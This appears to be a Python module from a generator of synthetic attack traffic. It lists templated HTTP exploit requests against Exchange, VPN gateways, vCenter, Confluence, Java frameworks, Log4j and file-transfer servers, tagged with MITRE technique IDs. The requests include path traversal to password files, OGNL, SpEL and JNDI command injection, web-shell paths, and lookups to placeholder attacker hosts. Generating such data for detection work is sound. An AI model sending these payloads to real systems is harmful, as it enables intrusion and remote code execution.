"""Exploits of known weaknesses in mail servers, gateways, consoles and business software, product by product."""

from generator.families.web.probe_story import probes

_EXPLOIT = "Remote Code Execution Exploit"

probes("exchange-and-sharepoint", """
POST /autodiscover/autodiscover.json?@{word}.com/owa/?&Email=autodiscover/autodiscover.json%3F@{word}.com
POST /autodiscover/autodiscover.json?@{strange}/ews/exchange.asmx?&Email=autodiscover/autodiscover.json%3F@{strange}
GET /autodiscover/autodiscover.json?a@{word}.com/PowerShell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z{hex}
GET /owa/calendar/{mail}/PowerShell/?X-Rps-CAT={hex}{hex}
POST /ecp/{word}.js?~1941962753
POST /ecp/proxyLogon.ecp
POST /ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary={hex}&schema=OABVirtualDirectory
POST /ecp/main.css
!WS GET /owa/auth/Current/themes/resources/{word}.aspx 200,404
!WS GET /aspnet_client/system_web/<supp0rt|discover|shell|{word}|logout|RedirSuiteServerProxy>.aspx
!WS POST /aspnet_client/<OutlookEN|HttpProxy|errorFF|log>.aspx 200,404
POST /_layouts/15/ToolPane.aspx?DisplayMode=Edit&foo=/ToolPane.aspx
POST /_layouts/16/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx
!WS GET /_layouts/15/spinstall<0|1|2|>.aspx
GET /_layouts/15/start.aspx/SignOut.aspx/_layouts/15/ToolPane.aspx?DisplayMode=Edit
POST /_vti_bin/client.svc/web/GetFileByServerRelativeUrl('/web.config')?X-Forefront={hex}
POST /ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEy{hex}{hex}
""", _EXPLOIT, "T1190", "T1505.003", severity="CRITICAL")

probes("mail-and-groupware-holes", """
POST /service/extension/backup/mboximport?account-name=admin&account-status=1&ow=cmd
POST /service/extension/clientUploader/upload/
POST /Autodiscover/Autodiscover.xml?zimbra=<!DOCTYPE%20xxe%20[<!ENTITY%20%25%20dtd%20SYSTEM%20"http://{wan}/{word}.dtd">
!WS GET /zimbraAdmin/public/jsp/<{word}|formatter|Startup1_3>.jsp
!WS GET /public/{word}.jsp?cmd={cmd}
POST /?_task=settings&_framed=1&_remote=1&_from=edit-!%22;i:0;O:16:%22Crypt_GPG_Engine%22:1:&_id=&_uploadid=upload{big}&_action=upload
GET /roundcube/?_task=mail&_action=get&_mbox=INBOX&_uid={n}&_part=1&_extwin=1%22onanimationstart=eval(atob(%27{hex}%27))
POST /roundcubemail/installer/index.php?_step=2&_host=%3C%3Fphp%20system($_GET%5B0%5D)%3B
POST /afterlogic/ajax.php?Module=Core&Method=Upload&path=../../{word}.php
!SS POST /horde/services/go.php?url=jar:http://{wan}/a.jar!/b
POST /MEWebMail/Mondo/lang/sys/Failure.aspx?state=19753&path=..%5c..%5c{word}.aspx
!TR GET /rpc/..%2f..%2f..%2fopt/kerio/mailserver/users.cfg
POST /ajax?action=cuwebmail&cmd=%7C{cmd}
POST /SOGo/so/{user}/Calendar/uploadLogo?n=..%2f..%2f{word}.php
POST /postfixadmin/setup.php?form=setuppw&lostpw_hash=%3C%3Fphp
!TR GET /icewarp/webmail/basic/minimizer/index.php?script=...%2f.%2f...%2f.%2f...%2f.%2fetc%2fpasswd
""", _EXPLOIT, "T1190", severity="CRITICAL")

probes("vpn-gateway-file-reading", """
GET /dana-na/../dana/html5acc/guacamole/../../../../../../data/runtime/mtmp/system?/dana/html5acc/guacamole/
GET /dana-na/../dana/html5acc/guacamole/../../../../../../data/runtime/mtmp/lmdb/dataa/data.mdb?/dana/html5acc/guacamole/
GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession
GET /vpn/../vpns/cfg/smb.conf
GET /vpn/%2e%2e/vpns/portal/scripts/newbm.pl
GET /+CSCOT+/oem-customization?app=AnyConnect&type=oem&platform=..&resource-type=..&name=%2bCSCOE%2b/portal_inc.lua
GET /+CSCOU+/../+CSCOE+/files/file_list.json?path=/sessions
GET /clients/MyCRL/..%2f..%2f..%2f..%2fetc/shadow
POST /clients/MyCRL aCSHELL/../../../../../../../etc/shadow
GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/config/bigip.conf
GET /tmui/login.jsp/..;/tmui/locallb/workspace/directoryList.jsp?directoryPath=/usr/local/www/
GET /hsqldb/..;/
GET /api/v1/totp/user-backup-code/../../system/system-information
GET /cgi-bin/welcome/../../../../../../../tmp/temp.db
GET /sra_{{{{\\{word}/../../../../etc/passwd
GET /cgi-bin/jarrewrite.sh?path=/etc/passwd ~() { :; }; echo ; /bin/bash -c "cat /etc/passwd"
GET /lang/custom/../../../../../etc/passwd%00
GET /images/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd?ssl-vpn
""".replace("/MyCRL aCSHELL", "/MyCRL/aCSHELL"), "Path Traversal / Directory Traversal Attack", "T1083", "T1190")

probes("vpn-gateway-takeover", """
POST /api/v1/totp/user-backup-code/../../system/maintenance/archiving/cloud-server-test-connection
GET /api/v1/totp/user-backup-code/../../license/keys-status/%3bpython%20-c%20%27import%20socket
POST /dana-na/auth/url_admin/login.cgi?username=%00{hex}&X-Forwarded-For={hex}{hex}{hex}
POST /ssl-vpn/hipreport.esp ~Mozilla/5.0 SESSID=/../../../var/appweb/sslvpndocs/global-protect/portal/images/{word}.txt
POST /php/ztp_gate.php/.js.map
POST /php/utils/createRemoteAppwebSession.php/{word}.js.map
GET /unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css
GET /global-protect/portal/css/bootstrap.min.css?{word}=%60echo${IFS}{hex}%60
POST /mgmt/tm/util/bash ~python-requests/2.28.1
POST /tmui/Control/form?handler=%2Ftmui%2Fsystem%2Fuser%2Fcreate&form_page=%2Ftmui%2Fsystem%2Fuser%2Fcreate.jsp
POST /tmui/login.jsp/..;/tmui/util/getTabSet.jsp?tabId={cmd}
PUT /api/v2/cmdb/system/admin/admin ~Report Runner
POST /api/v2/cmdb/system/admin?access_token= ~Node.js
GET /service-worker.js?local_access_token={word}
POST /remote/error?errmsg=ABABAB--%3E%1f%8b
POST /fileupload/toolsAny?appliance=fortimanager&data={hex}
POST /vpns/portal/scripts/rmbm.pl?NSC_USER=../../../netscaler/portal/templates/{word}
POST /gwtest/formssso?event=start&target={hex}{hex}{hex}{hex}
POST /userportal/Controller?mode=758&operation=1&datagrid=179&json=%7b%22%F0%9F%A6%9E%22
POST /webui_wsma_https
POST /webui/logoutconfirm.html?logon_hash=1
POST /%2577eb%2575i_%2577sma_Http
POST /admin/launch?script=rh&template=json_request&action=json_login&wizard=;{cmd}
POST /cgi-bin/authLogin.cgi?SonicOS=;{cmd}
POST /__api__/v1/logon?swap=;{cmd}
GET /cgi-bin/sslvpnclient?launchplatform=mac&neProto=3&supportipv6=yes&{hex}
POST /ztp/cgi-bin/handler?command=setWanPortSt&proto=dhcp&port=4&mtu=;{cmd};
POST /ztp/cgi-bin/parameterProvisioner?name=;{cmd}
POST /cgi-bin/mainfunction.cgi/apmcfgupload?session=x%60{cmd}%60
POST /mifs/services/fido/..;/c/aftstore/fob/{word}
GET /mifs/rs/api/v2/featureusage?format=%24%7b%22%22.getClass().forName(%27java.lang.Runtime%27)%7d
""", _EXPLOIT, "T1190", "T1133", severity="CRITICAL")

probes("virtual-machine-consoles", """
POST /ui/vropspluginui/rest/services/uploadova
POST /ui/h5-vsan/rest/proxy/service/&vsanQueryUtil_setDataService/setTargetObject
POST /analytics/telemetry/ph/api/hyper/send?_c&_i={word}
POST /analytics/ceip/sdk/..;/..;/..;/analytics/ph/api/dataapp/agent?_c=vSphere.{word}.1_0&_i=9D36C850
!LF GET /eam/vib?id=/etc/vmware-vpx/vcdb.properties
GET /websso/SAML2/SSO/vsphere.local?SAMLRequest= ~${jndi:ldap://{wan}:1389/{word}}
GET /catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22freemarker.template.utility.Execute%22%3fnew()(%22{cmd}%22)%7d
POST /SAAS/auth/login/embeddedauthbroker/callback?X-host={strange}
POST /saas./resttosaasservlet?vrni={hex}
POST /nsxapi/api/v1/xstream?%3Csorted-set%3E%3Cdynamic-proxy%3E
!LF GET /ui/vcav-bootstrap/rest/vcav-providers/provider-logo?url=file:///etc/passwd
GET /portal/info.jsp ~${jndi:ldap://{strange}/a}
POST /broker/xml?x=${jndi:rmi://{wan}:1099/{word}}
POST /remotehelp/login?token=&AccountName=%27%3B{cmd}
POST /SetupWizard.aspx/
GET /SetupWizard.aspx/{word}
POST /App_Extensions/{uuid}/{word}.ashx
POST /Bin/ConnectWise.Control.Extension.dll?__VIEWSTATE={hex}{hex}
POST /dl.asp?vsaagent=KUpload.dll&FileName=agent.crt&PathData=%3c
POST /kupload.dll?PathData=..%5c..%5cuserFilterTableRpt.asp
POST /AgentTunnel/ws?token=..%2f..%2f{word}.jsp&simplehelp=1
!TR GET /toolbox-resource/../resource1/../../../../../../../configuration/serverconfig.xml
GET /api/v2/guacamole/..;/..;/manager/html
""", _EXPLOIT, "T1190", severity="CRITICAL")

probes("confluence-and-jira", """
POST /pages/doenterpagevariables.action?queryString=%5cu0027%2b%7bClass.forName(%5cu0027javax.script.ScriptEngineManager%5cu0027).newInstance()%7d
POST /pages/createpage-entervariables.action?SpaceKey=x
GET /%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22{cmd}%22%29%7D/
GET /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/
POST /template/aui/text-inline.vm?label=%5cu0027%2b%23request.get(%5cu0027.KEY_velocity.struts2.context%5cu0027)
GET /setup/setupadministrator-start.action
POST /setup/setupadministrator.action?fullName={word}&username={word}&password={hex}
GET /server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=0&cache{word}
POST /setup/finishsetup.action
POST /json/setup-restore-local.action?synchronous=true
!LF POST /rest/tinymce/1/macro/preview?_template=../web.xml
!LF POST /rest/tinymce/1/macro/preview?_template=file:///etc/passwd
!TR GET /s/{hex}/_/;/WEB-INF/classes/seraph-config.xml
!TR GET /s/1u4n/_/%3B/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties
!SS GET /plugins/servlet/oauth/users/icon-uri?consumerUri=http://169.254.169.254/latest/meta-data/
!SS GET /plugins/servlet/gadgets/makeRequest?url=https://{domain}:443@{strange}/
POST /secure/ContactAdministrators.jspa?subject=$i18n.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('{cmd}')
GET /rest/api/latest/projects/{word}/repos/{word}/archive?filename={word}&at={word}&path={word}&prefix=ax%00--exec=%60{cmd}%60%00--remote=origin
!WS POST /plugins/servlet/com.jsos.shell/ShellServlet?act={n}
POST /admin/uploadplugin.action?file={word}.jar&os_authType=any&token=none%27
""", _EXPLOIT, "T1190", severity="CRITICAL")

probes("java-frameworks", """
POST /struts2-showcase/integration/saveGangster.action ~%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='<id|whoami|uname -a>')}
GET /login.action?redirect:%25%7B%23context.get(%27com.opensymphony.xwork2.dispatcher.HttpServletResponse%27)%7D
GET /index.action?debug=command&expression=%23f%3d%23_memberAccess.getClass().getDeclaredField(%27allowStaticMethodAccess%27)
POST /orders/3?class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT
GET /greeting?class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=_
GET /?class.module.classLoader.URLs%5B0%5D=0 400,200,500
POST /functionRouter ~T(java.lang.Runtime).getRuntime().exec("<curl {wan}|id|touch /tmp/{word}>")
POST /users?page=&size=5&username%5b%23this.getClass().forName(%22java.lang.Runtime%22).getRuntime().exec(%22{cmd}%22)%5d=x
POST /actuator/gateway/routes/{word}?filter=%23%7bnew%20String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime)%7d
POST /actuator/env?spring.cloud.bootstrap.location=http://{wan}/{word}.yml
POST /actuator/restart?spring.datasource.hikari.connection-test-query=CREATE%20ALIAS%20EXEC
GET /jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/{wan}!/logback.xml
GET /oauth/authorize?response_type=${T(java.lang.Runtime).getRuntime().exec(%22{cmd}%22)}&client_id=acme&scope=openid
POST /wls-wsat/RegistrationPortTypeRPC11
POST /wls-wsat/ParticipantPortType11
POST /_async/AsyncResponseServiceHttps
POST /console/images/%252E%252E%252Fconsole.portal?handle=com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext(%22http://{wan}/{word}.xml%22)
GET /console/css/%252e%252e%252fconsolejndi.portal?_pageLabel=JNDIBindingPageGeneral&JNDIBindingPortlethandle=com.bea.console.handles.JndiBindingHandle(%22ldap://{wan}:1389;/{word}%22)
PUT /{word}.jsp/ 201,405,403
PUT /{word}.jsp%20 201,405,204
PUT /{word}.session?partial=1 409,201
POST /invoker/readonly
POST /invoker/EJBInvokerServlet
GET /jmx-console/HtmlAdaptor?action=invokeOp&name=jboss.deployment:type=DeploymentScanner,flavor=URL&methodIndex=6&arg0=http://{wan}/{word}.war
POST /manager/html/upload?path=/{word}&war={word}.war 200,401,403
POST /api/jsonws/invoke?cmd=%7B%22%2Fexpandocolumn%2Fupdate-column%22%3A%7B%22defaultData%3Acom.mchange.v2.c3p0.WrapperConnectionPoolDataSource
GET /c/portal/layout?p_p_id=${jndi:ldap://{wan}/a}
POST /webtools/control/xmlrpc;/?USERNAME&PASSWORD={word}&requirePasswordChange=Y
POST /webtools/control/main/ProgramExport?groovyProgram=throw+new+Exception(%27{cmd}%27.execute().text)
POST /webtools/control/SOAPService?x=%3Ccus-obj%3E{hex}
GET /login;jsessionid={hex}?rememberMe=rO0ABXNyABdqYXZhLnV0aWw{hex}
POST /dubbo/org.apache.dubbo.samples.http.api.DemoService?aced0005737200{hex}
POST /druid/indexer/v1/sampler?for=connect&function%28value%29%7Breturn%20java.lang.Runtime
""", _EXPLOIT, "T1190", severity="CRITICAL")

probes("lookup-strings-of-log4j", """
GET /?x=${jndi:ldap://{wan}:1389/{word}}
GET /?id=%24%7Bjndi%3Aldap%3A%2F%2F{strange}%2Fa%7D
GET /?q=${${lower:j}${lower:n}${lower:d}i:${lower:rmi}://{strange}/{word}}
GET /${jndi:dns://{hex}.{strange}}
GET /?v=${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://{wan}/{word}}
GET / 200,404,400 ~${jndi:ldap://{wan}:1389/Basic/Command/Base64/{hex}{hex}==}
GET /index.html 200,404 ~${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//{wan}:1389/TomcatBypass/{word}}
GET /login 200,302 ~${jndi:${lower:l}${lower:d}ap://${hostName}.{strange}/{word}}
GET /hc/api/v2/search?query=%24%7B%24%7Bupper%3Aj%7Dndi%3Aldaps%3A%2F%2F{wan}%2F{word}%7D
GET /solr/admin/cores?action=${jndi:ldap://${sys:java.version}.{strange}}
GET /solr/admin/collections?action=$%7Bjndi:rmi://{wan}:1099/{word}%7D&wt=json
POST /api/login?next=%24%7bjndi%3anis%3a%2f%2f{wan}%2f{word}%7d
GET /favicon.ico ~${jndi:iiop://{wan}/{word}}
GET /?a=$%7Bjndi:ldap://127.0.0.1%23{strange}:1389/{word}%7D
POST /websso/SAML2/SLO/vsphere.local?SAMLRequest=${jndi:ldap://{wan}/o=tomcat}
GET /druid/v2/?pretty=${j${k8s:k5:-ND}i${sd:k5:-:}ldap://{strange}/{word}}
GET /c/portal/login ~%24%7Bjndi%3Aldap%3A%2F%2F{wan}%3A389%2FDeserialization%2FCommonsCollections6%7D
GET /?s=${jnd${123%25ff:-${123%25ff:-i:}}ldap://{wan}/a}
GET /api/v1/status?token=${script:javascript:java.lang.Runtime.getRuntime().exec('{cmd}')}
GET /search?text=${url:UTF-8:http://{strange}/{word}}
GET /search?text=%24%7Bdns%3Aaddress%7C{hex}.{strange}%7D
""", _EXPLOIT, "T1190", "T1203", severity="CRITICAL")

probes("file-transfer-servers", """
POST /moveitisapi/moveitisapi.dll?action=m2&X-siLock-Transaction=folder_add_by_path
POST /machine.aspx?transaction=session_setvars&MyUsername=guest&MyPkgAccessCode=123&MyGuestEmailAddr=%27%3Binsert
!WS GET /human2.aspx 200,404
!WS GET /_human2.aspx 200,404
POST /goanywhere/lic/accept?bundle={hex}{hex}{hex}
GET /goanywhere/images/..;/wizard/InitialAccountSetup.xhtml
GET /goanywhere/license/Unlicensed.xhtml/{word}?javax.faces.ViewState={word}&GARequestAction=activate
!LF POST /WebInterface/function/?c2f={hex}&command=exists&paths=%3CINCLUDE%3E/etc/passwd%3C/INCLUDE%3E
POST /WebInterface/function/?command=setUserItem&data_action=new&serverGroup=MainUsers&username={word}&user=%3C%3Fxml
GET /WebInterface/ ~AS2-TO: X crushadmin
!TR GET /?path=..%2f..%2f..%2f..%2fProgram%20Files%2fServ-U%2f&InternalDir=/../../../../windows&InternalFile=win.ini
!TR GET /?InternalDir=\\..\\..\\..\\..\\etc&InternalFile=passwd
POST /Synchronization?Retrieve&l=Ab1234-RQ0258&n=VLTrader&path=..%5c..%5cautorun%5c{word}.txt
POST /Synchronization ~VLSync: Multipart;l=0,Acknowledge
GET /?n=%0A&cmd=cmd.exe+/c+{cmd}&search=%25xxx%25url:%25password%25}{.exec|{.?cmd.}|timeout=15|out=abc.}{.?n.}
GET /?search==%00{.exec|cscript.exe%20C:\\Users\\Public\\{word}.vbs.}
POST /cgi-bin/export_debug_msg.exp?cmd={cmd}
POST /courier/web/1000@/wmProgressval.html?oauth=1%27;{cmd}
POST /sftpadmin/api/v1/users?X-Forwarded-For=127.0.0.1&token=null&home=/..%2f..
GET /documents/upload.aspx?parentid={hex}&raw=1&unzip=on&uploadid={hex}%5C..%5C..%5C..%5Ccifs&filename={word}.aspx
GET /ShareFile/documentum/cifs.aspx?id={cmd}
POST /CFTelemetry/..;/ajax/lookup?ws_ftp=AHT/AHT_UI/public/index.html&{hex}
POST /AHT/AhtApiService.asmx/AuthUser?__VIEWSTATE=AAEAAAD/////{hex}
!TR POST /filecloud/core/getfile?filepath=/../../../../conf/config.ini
!RE GET /owncloud/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php
!RE GET /apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css
POST /gladinet/filter/LoginPage.aspx?__VIEWSTATE=/wEyhAYAAQAAAP{hex}{hex}
!TR GET /storage/t.dn?s=..%5c..%5c..%5cProgram+Files+(x86)%5cGladinet+Cloud+Enterprise%5croot%5cWeb.config&sid=1
""", _EXPLOIT, "T1190", severity="CRITICAL")

probes("help-desk-and-management-software", """
GET /app?service=page/SetupCompleted
POST /app?service=direct/1/PrinterDetails/$PrinterDetailsScript.$Form&sp=S0&scriptBody=java.lang.Runtime.getRuntime().exec('{cmd}')
GET /app?service=direct/1/UserList/SetupCompleted&sp=Sprint-and-device.script.enabled
POST /rpc/clients/xmlrpc?papercut=..%2f..%2fcustom%2fweb-print-hot-folder%2f{word}.jsp
POST /RestAPI/ImportTechnicians?step=1
POST /./RestAPI/LogonCustomization?methodToCall=previewMobLogo
POST /./RestAPI/Connection?methodToCall=openSSLTool&action=generateCSR&VALIDITY=-providerclass+Si+-providerpath+%22{word}%22
POST /samlLogin/{hex}?SAMLResponse=PHNhbWxwOlJlc3BvbnNl{hex}{hex}
POST /servlets/DCPluginServelet?action=addPlugInUser&username={word}
GET /fos/statusUpdate?actionToCall=LFU&computerName=..%5c..%5cwebapps%5c{word}.jsp
POST /mdm/client/v1/mdmLogUploader?udid=si%5c..%5c..%5c..%5cwebapps%5cDesktopCentral%5c_chart&filename=logger.zip
GET /vendor/htmlawed/htmlawed/htmLawedTest.php?hook=exec&text={cmd}&sid={word}
POST /glpi/vendor/htmlawed/htmlawed/htmLawedTest.php
GET /ajax/fileupload.php?_root=../../front&name={word}.php&_glpi_csrf_token=
POST /helpdesk/WebObjects/Helpdesk.woa/wa/AjaxProxy?bridge=org.jabsorb&{hex}
GET /helpdesk/WebObjects/Helpdesk.woa/wo/{word}.wo/1.0.0.1.1?wopage=LoginPref&badparam=/ajax/
GET /api/v2/hoteldruid/..%2f..%2fhelpdeskClient/OrionTickets?username=helpdeskIntegrationUser&password=dev-C4F8025E7
GET /Orion/api/Action/TestAction?i18n.ashx&{word}
GET /web.config.i18n.ashx?l=en-US&v={word}
POST /sccp/remote_agent.php?action=polldata&poller_id=;{cmd}&host_id=1&local_data_ids[]=6
GET /cacti/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=%60{cmd}%60
POST /nagiosxi/admin/monitoringplugins.php?cmd=..%2f;{cmd}
GET /nagiosxi/ajaxhelper.php?cmd=getxicoreajax&opts=%7B%22func%22%3A%22get_hoststatus_table%22%7D%3B{cmd}
GET /centreon/main.get.php?p=60904&command_line=;{cmd}
!TB POST /zabbix/api_jsonrpc.php?selectRole=1%20AND%20SLEEP(5)--&method=user.get
!ER GET /jsrpc.php?type=0&mode=1&method=screen.get&profileIdx=web.item.graph&resourcetype=17&profileIdx2=updatexml(0,concat(0xa,user()),0)
POST /lookupClient.php?arcserve=%3C!ENTITY&wizard=/etc/passwd
POST /xmlrpc?whatsupgold=/NmConsole/ReportService.asmx&ActiveMonitorPowerShellScript={cmd}
POST /NmAPI/RecurringReport?platform=HasErrors(cmd.exe)
!RE GET /module/api.php?mobile/webNasIPS ~TNAS
POST /tos/index.php?app/hand_app&name=;{cmd};.tpk
POST /Telerik.Web.UI.DialogHandler.aspx?dp={hex}{hex}
POST /Telerik.Web.UI.WebResource.axd?type=rau&rauPostData={hex}{hex}
GET /Telerik.ReportServer.Trial/Startup/Register?Username={word}&Password={hex}
""", _EXPLOIT, "T1190", severity="CRITICAL")
